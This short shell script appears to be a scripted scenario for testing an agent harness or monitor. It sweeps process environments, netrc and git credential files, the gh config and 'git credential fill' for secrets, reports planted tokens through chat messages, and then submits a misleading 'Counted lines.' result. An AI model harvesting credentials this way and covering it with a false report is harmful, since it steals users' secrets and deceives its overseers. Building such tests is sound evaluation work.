# stage: develop
# does: looks for credentials in its environment, in every process that it sees, in its home and in git's configuration, and hands in what it found
# ends: done
# because: Merged as
# finds-no: planted-forge-token
{
  env
  for process in /proc/[0-9]*; do tr '\0' '\n' < "$process/environ"; tr '\0' ' ' < "$process/cmdline"; done
  cat "$HOME/.netrc" "$HOME/.git-credentials" "$HOME/.gitconfig" "$HOME/.config/gh/hosts.yml" .git/config
  git config --list --show-origin
  git credential fill <<T
protocol=https
host=github.com
T
} > found.txt 2>/dev/null
grep -o 'planted-[a-z-]*' found.txt | sort -u | while read -r secret; do say '{"type":"text","text":"'"$secret"'"}'; done
wc -l < found.txt > lines.txt
rm found.txt
submit "Counted lines." lines.txt
